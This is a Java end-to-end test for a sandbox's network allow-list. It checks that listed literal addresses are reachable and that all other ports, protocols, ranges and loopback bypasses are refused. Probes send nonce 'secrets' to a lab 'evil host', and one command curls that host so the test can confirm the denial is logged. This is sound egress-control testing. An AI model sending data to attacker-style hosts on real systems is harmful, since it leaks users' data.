package dev.rustyolo.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import dev.rustyolo.e2e.attack.Judge;
import dev.rustyolo.e2e.attack.Leak;
import dev.rustyolo.e2e.lab.Addresses;
import dev.rustyolo.e2e.lab.Lab;
import dev.rustyolo.e2e.lab.Nonce;
import dev.rustyolo.e2e.lab.Sighting;
import dev.rustyolo.e2e.process.Output;
import dev.rustyolo.e2e.process.Program;
import dev.rustyolo.e2e.process.Runner;
import dev.rustyolo.e2e.sandbox.Account;
import dev.rustyolo.e2e.sandbox.Project;
import dev.rustyolo.e2e.sandbox.Rustyolo;
import dev.rustyolo.e2e.sandbox.Session;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Addresses that are allowed without a name (catalogue T41): they can be reached, and nothing beside them. The receiver is
 * the evil host, which answers for every address that isn't in the lab, and records.
 */
@ExtendWith(LabExtension.class)
final class LiteralAddressesTest {
    private static final String EVIL = Addresses.v4(Addresses.EVIL);
    private static final String ORIGIN = Addresses.v4(Addresses.ALLOWED);
    private static final String ALLOWED = EVIL + ":5432 " + EVIL + ":443 10.99.0.0/24:7777 " + ORIGIN + ":80";

    private static final Map<String, String> REACHED = Map.of(
            "address", "tcp " + EVIL + " 5432",
            "range", "tcp 10.99.0.5 7777",
            "end of the range", "tcp 10.99.0.255 7777",
            "any protocol on 443", "tcp " + EVIL + " 443",
            "mapped", "mapped " + EVIL + " 5432");

    private static final Map<String, String> REFUSED = Map.ofEntries(
            Map.entry("other port", "tcp " + EVIL + " 5433"),
            Map.entry("port of another", "tcp " + EVIL + " 7777"),
            Map.entry("standard port", "tcp " + EVIL + " 80"),
            Map.entry("beside the range", "tcp 10.99.1.0 7777"),
            Map.entry("other port of the range", "tcp 10.99.0.5 22"),
            Map.entry("datagram", "udp " + EVIL + " 5432"),
            Map.entry("datagram to the range", "udp 10.99.0.5 7777"),
            Map.entry("IPv6", "tcp " + Addresses.v6(Addresses.EVIL) + " 5432"),
            Map.entry("past loopback", "by-device " + EVIL + " 5432"),
            Map.entry("past loopback to the range", "by-device 10.99.0.5 7777"),
            Map.entry("inside address, other port", "tcp 198.19.0.5 5432"),
            Map.entry("inside address of nothing", "tcp 198.19.255.5 7777"));

    @Test
    void whatIsListedIsReachedAndNothingElse(Lab lab) {
        try (Project project = Project.withProbes(Account.unprivileged());
                Session session = Rustyolo.inLab(project, lab)
                        .with("--allow-domains", ALLOWED)
                        .session("--", "python3", "runner.py")) {
            assertHolds(lab, session, new Runner(session.program()));
            try (Program root = session.startRunnerAsRoot()) {
                assertHolds(lab, session, new Runner(root));
            }
            assertThat(session.finish().err())
                    .contains("allowed addresses, whatever is said to them: " + EVIL + ":5432")
                    .contains("10.99.1.0:7777/tcp")
                    .contains("allow a name instead, or, if it has none: --allow-domains \"10.99.1.0:7777\"");
        }
    }

    private static void assertHolds(Lab lab, Session session, Runner inside) {
        Lab.Mark mark = lab.mark();
        Map<String, Nonce> secrets = new TreeMap<>();
        Map<String, String> commands = new TreeMap<>();
        REACHED.forEach((what, probe) -> add(what, probe, secrets, commands));
        REFUSED.forEach((what, probe) -> add(what, probe, secrets, commands));
        inside.run(commands);
        // It reaches the server by the gateway; on the wire it must not be seen by itself.
        inside.run("python3 probe.py orphan " + EVIL + " 5432 queued");
        lab.settle();
        List<Sighting> seen = lab.since(mark);

        assertThat(got(secrets, seen)).isEqualTo(REACHED.keySet());
        assertThat(seen)
                .filteredOn(sighting -> sighting.kind().equals("frame"))
                .filteredOn(sighting -> session.addresses().stream().anyMatch(sighting::isFrom))
                .extracting(Sighting::target)
                .isSubsetOf(EVIL + " 5432", EVIL + " 443", "10.99.0.5 7777", "10.99.0.255 7777");
    }

    private static void add(String what, String probe, Map<String, Nonce> secrets, Map<String, String> commands) {
        Nonce nonce = Nonce.fresh();
        secrets.put(what, nonce);
        String kind = probe.startsWith("by-device") ? " bytes" : "";
        commands.put(what, "python3 probe.py " + probe + " " + nonce.text() + kind);
    }

    private static Set<String> got(Map<String, Nonce> secrets, List<Sighting> seen) {
        return new Judge(secrets).leaks(seen).stream().map(Leak::attack).collect(Collectors.toSet());
    }

    @Test
    void allOfThemAreReachedWithoutASandbox(Lab lab) {
        Lab.Mark mark = lab.mark();
        Map<String, Nonce> secrets = new TreeMap<>();
        Map<String, String> commands = new TreeMap<>();
        REFUSED.forEach((what, probe) -> add(what, probe, secrets, commands));
        try (Program program = lab.control().startRunner()) {
            new Runner(program).run(commands);
        }
        lab.settle();

        assertThat(got(secrets, lab.since(mark))).isEqualTo(REFUSED.keySet());
    }

    @Test
    void anUploadToAnAddressArrivesWholeThoughTheSessionEnds(Lab lab) {
        String path = "/" + Nonce.fresh().text();
        try (Project project = Project.withProbes(Account.unprivileged())) {
            Output end = Rustyolo.inLab(project, lab)
                    .with("--allow-domains", ALLOWED)
                    .run("--", "python3", "upload.py", "http", ORIGIN, path, "3000000");

            assertThat(end.exitCode()).as(end.text()).isZero();
            Sighting stored = lab.allowed()
                    .sightings()
                    .await("the upload", Duration.ofSeconds(20), s -> s.detail().contains(path));
            assertThat(stored.detail())
                    .contains("body=whole length=3000000 sha256=" + end.out().strip());
        }
    }

    @Test
    void whatIsSaidToAnAddressIsWrittenDown(Lab lab) {
        String path = "/" + Nonce.fresh().text();
        try (Project project = Project.withProbes(Account.unprivileged())) {
            Output end = Rustyolo.inLab(project, lab)
                    .with("--audit-log", "verbose", "--allow-domains", ALLOWED)
                    .run(
                            "--",
                            "sh",
                            "-c",
                            "python3 upload.py http " + ORIGIN + " " + path + " 3000000; curl -sS -m 5 http://" + EVIL);
            Output log = new Rustyolo(project, Rustyolo.in(project).environment(), List.of()).run("logs", "--json");

            assertThat(log.out().lines())
                    .as(end.text())
                    .anyMatch(line -> line.startsWith("{\"type\":\"allowed\"")
                            && line.contains("\"name\":\"" + ORIGIN + "\",\"port\":80,\"address\":\"" + ORIGIN + "\""))
                    .anyMatch(line -> line.startsWith("{\"type\":\"closed\"") && sent(line) > 3_000_000)
                    .anyMatch(line -> line.startsWith("{\"type\":\"denied\"")
                            && line.contains("\"layer\":\"kernel\",\"name\":\"" + EVIL + "\",\"port\":80"));
        }
    }

    private static long sent(String line) {
        return Long.parseLong(line.replaceFirst(".*\"sent\":(\\d+).*", "$1"));
    }
}
